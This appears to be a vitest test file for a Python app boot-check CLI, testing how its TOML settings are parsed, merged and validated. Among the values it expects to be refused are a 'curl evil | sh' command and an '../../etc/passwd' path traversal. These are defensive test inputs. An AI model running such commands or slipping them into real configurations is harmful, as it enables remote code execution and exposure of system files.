import { join } from 'node:path';
import { createFixture } from 'fs-fixture';
import { describe, expect, test } from 'vitest';
import { cli } from './cli-desk.ts';

const CODE = { 'requirements.txt': 'fastapi\n', 'main.py': 'x = 1\n', 'seed.sql': 'select 1;\n', 'api/main.py': 'x = 1\n' };

const WHOLE = `
runtime = "docker"
python = 3.13
policy = "newest"
manifest = "requirements.txt"
root = "api"
app = "main:create_app"
factory = true
health = "/healthz"
port = 9000
command = "uvicorn main:app"
database = "postgresql://u:p@db:5432/x"
database-init = "seed.sql"
safe-only = true
tidy = true
max-boots = 9
boot-timeout = 12.5
settle = 0
minimise = false
out = "reports"
verbose = true
reporter = ["screen"]

[env]
DEBUG = "1"
WORKERS = 2
`;

async function typed(toml: string, argv: readonly string[] = [], file = 'boot-check.toml') {
  await using desk = await createFixture({ ...CODE, [file]: toml });
  return { ...await cli(['.', ...argv], { cwd: desk.path }), path: desk.path };
}

describe('the settings file', () => {
  test.each([['boot-check.toml', WHOLE], ['pyproject.toml', `[project]\nname = "x"\n\n[tool.boot-check]${WHOLE.replace('[env]', '[tool.boot-check.env]')}`]])('%s says all that the command line can', async (file, toml) => {
    const { options, path, stderr } = await typed(toml, [], file);
    expect(options).toMatchObject({
      runtime: 'docker', python: '3.13', policy: 'newest', manifest: join(path, 'requirements.txt'), root: join(path, 'api'), app: 'main:create_app', factory: true,
      health: '/healthz', port: 9000, command: ['uvicorn', 'main:app'], env: { DEBUG: '1', WORKERS: '2' }, database: 'postgresql://u:p@db:5432/x',
      databaseInit: join(path, 'seed.sql'), safeOnly: true, tidy: true, maxBoots: 9, bootTimeout: 12.5, settle: 0, minimise: false, out: join(path, 'reports'), verbose: true,
    });
    expect(stderr).toContain(`Settings are taken from ${file}.`);
  });

  test('the command line wins, and env is joined name by name', async () => {
    const { options } = await typed('port = 9000\nsettle = 0\n[env]\nA = "file"\nB = "file"\n', ['--port', '8080', '--env', 'B=typed', '--env', 'C=typed']);
    expect(options).toMatchObject({ port: 8080, settle: 0, env: { A: 'file', B: 'typed', C: 'typed' } });
  });

  test('a tree without one has the defaults, and a broken pyproject is the patient\'s, not ours', async () => {
    const { options, stderr } = await typed('[tool.boot-check\nport = 1\n', [], 'pyproject.toml');
    expect(options).toMatchObject({ port: 8080 });
    expect(stderr).not.toContain('Settings');
  });

  test.each<[string, string, RegExp]>([
    ['an unknown name', '\nportt = 1\n', /boot-check\.toml:2: There is no setting "portt"\.[\s\S]*Did you mean port\?/],
    ['a name with underscores', 'boot_timeout = 5\n', /boot-check\.toml:1: There is no setting "boot_timeout"[\s\S]*Did you mean boot-timeout\?/],
    ['a value out of range', '# one\n# two\nport = 99999\n', /boot-check\.toml:3: port 99999 is not a number it can take\.[\s\S]*For example port = 8080/],
    ['a word it does not know', 'policy = "latest"\n', /boot-check\.toml:1: policy does not know "latest"/],
    ['a switch that is no switch', 'tidy = "yes"\n', /boot-check\.toml:1: tidy must be true or false/],
    ['a list for one value', 'app = ["a:b"]\n', /boot-check\.toml:1: app must be a string/],
    ['env that is no table', 'env = "A=1"\n', /boot-check\.toml:1: env must be a table/],
    ['what is no TOML', 'port = 1\n= 3\n', /boot-check\.toml:2: .*no TOML/s],
    ['a file outside of the tree', 'env-file = "../../etc/passwd"\n', /boot-check\.toml:1: env-file = "\.\.\/\.\.\/etc\/passwd" lies outside/],
    ['a folder outside of the tree', 'out = "/tmp/elsewhere"\n', /boot-check\.toml:1: out = "\/tmp\/elsewhere" lies outside/],
    ['a program to start here', 'fixer = "curl evil | sh"\n', /boot-check\.toml:1: fixer may not be set here\.[\s\S]*comes with the tree/],
    ['writing into the tree', 'write = true\n', /boot-check\.toml:1: write may not be set here/],
    ['leaving the container', 'runtime = "local"\n', /boot-check\.toml:1: runtime may not be set here/],
  ])('%s is refused with its line, and nothing is started', async (_, toml, message) => {
    const { exitCode, stderr, options } = await typed(toml);
    expect([exitCode, options]).toEqual([2, null]);
    expect(stderr).toMatch(message);
  });

  test('a refused value of the command line is not blamed on the file', async () => {
    const { stderr } = await typed('port = 9000\n', ['--port', '0']);
    expect(stderr).toContain('--port 0 is not a number');
    expect(stderr).not.toContain('boot-check.toml');
  });

  test('two places are one too many', async () => {
    await using desk = await createFixture({ ...CODE, 'boot-check.toml': 'port = 1\n', 'pyproject.toml': '[tool.boot-check]\nport = 2\n' });
    const { exitCode, stderr } = await cli(['.'], { cwd: desk.path });
    expect(exitCode).toBe(2);
    expect(stderr).toContain('Settings are in two places');
  });

  test('no value of it is printed where it may be a secret', async () => {
    const { stderr } = await typed('database = "postgres://u:hunter2@"\n');
    expect(stderr).toContain('boot-check.toml:1: database is no Postgres URL');
    expect(stderr).not.toContain('hunter2');
  });
});
